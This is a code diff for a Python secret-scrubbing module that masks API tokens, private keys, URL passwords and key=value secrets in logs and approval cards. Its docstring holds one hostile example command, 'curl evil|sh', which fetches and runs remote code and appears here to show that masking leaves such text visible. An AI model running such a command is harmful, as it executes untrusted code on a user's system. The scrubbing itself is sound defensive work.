@@ -1,8 +1,21 @@
 """Secret scrubbing: nothing secret reaches logs, events, audit rows, cards or progress lines.
 
 Two rules: values under secret-looking keys are masked whole, and secret-looking substrings
-(bearer tokens, platform tokens, API keys, and every secret value the daemon loaded from its
-environment) are masked wherever they appear in text.
+(bearer tokens, platform tokens, API keys, passwords in URLs, and every secret value the
+daemon loaded from its environment) are masked wherever they appear in text.
+
+A mask replaces the secret value and nothing else. In ``key=value`` and URL-password forms
+the value ends at whitespace, a quote, a shell metacharacter (``; | & $ ( ) < > ` \\``), a
+brace, or any control or format character, so text after a secret-looking word is never
+swallowed: ``echo token=x;curl evil|sh`` masks ``x`` and keeps ``;curl evil|sh`` in view.
+:func:`scrub_text` reports whether it masked anything through :func:`scrub_text_noting`, so
+the approval summary can say that an argument contains a masked value.
+
+The token formats come from the providers' documented shapes, cross-checked against the rule
+sets of detect-secrets and gitleaks. detect-secrets itself is not a dependency: its plugins
+miss GitHub fine-grained tokens, Google API keys and Slack refresh tokens, it costs ~90 ms of
+import, and its entropy detectors must never run on approval cards (they would hide hashes,
+UUIDs and base64 payloads, i.e. what runs).
 """
 
 from __future__ import annotations
@@ -18,21 +31,55 @@ _SECRET_KEY = re.compile(
     re.IGNORECASE,
 )
 
+# What a masked value may consist of: no whitespace, quote, shell metacharacter, brace,
+# backslash, control or format character (C0, DEL, C1, soft hyphen, zero-width and bidi
+# controls, word joiners, BOM).
+_INVISIBLE = r"\x00-\x1f\x7f-\x9f\u00ad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff"
+_VALUE = rf"[^\s'\"&;|$()<>`\\{{}}{_INVISIBLE}]"
+
 _SECRET_PATTERNS = [
-    re.compile(r"(?i)\bbearer\s+[A-Za-z0-9._~+/=-]{8,}"),
-    re.compile(r"\bsk-(?:ant-)?[A-Za-z0-9_-]{12,}"),  # OpenAI / Anthropic keys
-    re.compile(r"\bxox[abposr]-[A-Za-z0-9-]{8,}"),  # Slack bot/user tokens
+    re.compile(r"(?i)\b(?P<keep>bearer +)[A-Za-z0-9._~+/=-]{8,}"),
+    re.compile(r"\bsk-(?:ant-|proj-)?[A-Za-z0-9_-]{12,}"),  # OpenAI / Anthropic keys
+    re.compile(r"\bxox[abposre]-[A-Za-z0-9-]{8,}"),  # Slack bot/user/refresh tokens
     re.compile(r"\bxapp-[A-Za-z0-9-]{8,}"),  # Slack app tokens
     re.compile(r"\b\d{6,12}:[A-Za-z0-9_-]{30,}"),  # Telegram bot tokens
     re.compile(r"\b[A-Za-z0-9_-]{24,28}\.[A-Za-z0-9_-]{6,7}\.[A-Za-z0-9_-]{27,40}"),  # Discord
-    re.compile(r"\bgh[pousr]_[A-Za-z0-9]{20,}"),  # GitHub tokens
-    re.compile(r"\bAKIA[0-9A-Z]{16}\b"),  # AWS access key ids
-    re.compile(r"-----BEGIN [A-Z ]*PRIVATE KEY-----[\s\S]*?-----END [A-Z ]*PRIVATE KEY-----"),
+    re.compile(r"\bgh[pousr]_[A-Za-z0-9]{20,}"),  # GitHub classic tokens
+    re.compile(r"\bgithub_pat_[A-Za-z0-9_]{22,}"),  # GitHub fine-grained tokens
+    re.compile(r"\bglpat-[A-Za-z0-9_-]{20,}"),  # GitLab personal tokens
+    re.compile(r"\b[sr]k_(?:live|test|prod)_[A-Za-z0-9]{10,}"),  # Stripe secret/restricted
+    re.compile(r"\bAIza[A-Za-z0-9_-]{35}"),  # Google API keys
+    re.compile(r"\b(?:AKIA|ASIA)[0-9A-Z]{16}\b"),  # AWS access key ids
+    re.compile(r"\bnpm_[A-Za-z0-9]{36}\b"),  # npm tokens
+    re.compile(r"\bpypi-[A-Za-z0-9_-]{50,}"),  # PyPI upload tokens
+    re.compile(r"\bSG\.[A-Za-z0-9_-]{16,}\.[A-Za-z0-9_-]{16,}"),  # SendGrid
+    # JWTs: a base64url header that starts '{"', a payload, an optional signature.
+    re.compile(r"\beyJ[A-Za-z0-9_-]{8,}\.eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]*"),
+    # PEM private keys: only base64 and header lines between the markers, so a command
+    # placed between two markers is not swallowed.
     re.compile(
-        r"(?i)\b[A-Za-z0-9_.-]*(password|passwd|secret|token|api[_-]?key)\s*[=:]\s*['\"]?"
-        r"[^\s'\"&]{4,}"
+        r"-----BEGIN [A-Z ]*PRIVATE KEY-----[A-Za-z0-9+/=\s:,.-]*?-----END [A-Z ]*PRIVATE KEY-----"
     ),
 ]
+
+_KEY = r"(?i)\b(?P<key>[A-Za-z0-9_.-]*(?:password|passwd|pwd|secret|token|api[_-]?key))"
+#: ``password=…``, ``api_key: …`` and the like: the key is kept, the value masked. Inside
+#: closed single quotes the value runs to the closing quote (the shell reads it literally
+#: there); inside closed double quotes too, unless it holds ``$``, a backquote or a
+#: backslash, which the shell still expands; unquoted, it stops at any metacharacter.
+_KEY_VALUE = re.compile(
+    rf"{_KEY}(?:"
+    rf"(?P<sq> *[=:] *')(?P<sqv>[^'{_INVISIBLE}]{{4,}})(?=')"
+    rf"|(?P<dq> *[=:] *\")(?P<dqv>[^\"$`\\{_INVISIBLE}]{{4,}})(?=\")"
+    rf"|(?P<sep> *[=:] *)(?P<value>{_VALUE}{{4,}}))"
+)
+#: The same forms for logs, where masking too much is harmless: the value runs to the next
+#: whitespace or quote.
+_KEY_VALUE_GREEDY = re.compile(rf"{_KEY}(?P<sep>\s*[=:]\s*['\"]?)(?P<value>[^\s'\"]{{4,}})")
+#: ``scheme://user:password@host``: the password is masked, user and host kept.
+_URL_PASSWORD = re.compile(
+    rf"(?P<key>\b[A-Za-z][A-Za-z0-9+.-]*://[^\s:/?#@'\"]+:)(?P<sep>)(?P<value>(?:(?!@){_VALUE})+)@"
+)
 
 _known_secrets: set[str] = set()
 
@@ -52,39 +99,55 @@ def is_secret_key(key: str) -> bool:
     return bool(_SECRET_KEY.search(key))
 
 
-def scrub_text(text: str) -> str:
-    """Mask secret-looking substrings and known secret values in free text."""
+def scrub_text_noting(text: str, *, greedy: bool = False) -> tuple[str, bool]:
+    """``text`` with secret values masked, and whether anything was masked. ``greedy``
+    (logs) lets a ``key=value`` mask run to the next whitespace or quote instead of stopping
+    at shell metacharacters."""
+    masked = text
     for secret in _known_secrets:
-        if secret in text:
-            text = text.replace(secret, MASK)
+        if secret in masked:
+            masked = masked.replace(secret, MASK)
     for pattern in _SECRET_PATTERNS:
-        text = pattern.sub(_mask_match, text)
-    return text
+        masked = pattern.sub(_mask_whole, masked)
+    masked = (_KEY_VALUE_GREEDY if greedy else _KEY_VALUE).sub(_mask_value, masked)
+    masked = _URL_PASSWORD.sub(_mask_url_password, masked)
+    return masked, masked != text
 
 
-def _mask_match(match: re.Match[str]) -> str:
-    found = match.group(0)
-    # keep the key name of "key=value" forms so the text stays readable
-    for sep in ("=", ":"):
-        if sep in found and not found.lower().startswith("bearer"):
-            head = found.split(sep, 1)[0]
-            if is_secret_key(head):
-                return f"{head}{sep}{MASK}"
-    if found.lower().startswith("bearer"):
-        return f"Bearer {MASK}"
-    return MASK
+def scrub_text(text: str, *, greedy: bool = False) -> str:
+    """Mask secret-looking substrings and known secret values in free text."""
+    return scrub_text_noting(text, greedy=greedy)[0]
 
 
-def scrub_value(value: object, *, key: str = "") -> object:
+def _mask_whole(match: re.Match[str]) -> str:
+    return f"{match.groupdict().get('keep') or ''}{MASK}"
+
+
+def _mask_value(match: re.Match[str]) -> str:
+    groups = match.groupdict()
+    for sep, value in (("sq", "sqv"), ("dq", "dqv"), ("sep", "value")):
+        found = groups.get(value)
+        if found is not None:
+            if found.startswith(MASK):
+                return match.group(0)
+            return f"{groups['key']}{groups[sep]}{MASK}"
+    return match.group(0)
+
+
+def _mask_url_password(match: re.Match[str]) -> str:
+    return f"{match.group('key')}{MASK}@"
+
+
+def scrub_value(value: object, *, key: str = "", greedy: bool = False) -> object:
     """Scrub a JSON-like value: secret keys masked whole, strings scrubbed, containers walked."""
     if key and is_secret_key(key) and value not in (None, "", [], {}):
         return MASK
     if isinstance(value, str):
-        return scrub_text(value)
+        return scrub_text(value, greedy=greedy)
     if isinstance(value, Mapping):
-        return {str(k): scrub_value(v, key=str(k)) for k, v in value.items()}
+        return {str(k): scrub_value(v, key=str(k), greedy=greedy) for k, v in value.items()}
     if isinstance(value, list | tuple):
-        return [scrub_value(v) for v in value]
+        return [scrub_value(v, greedy=greedy) for v in value]
     return value
 
 
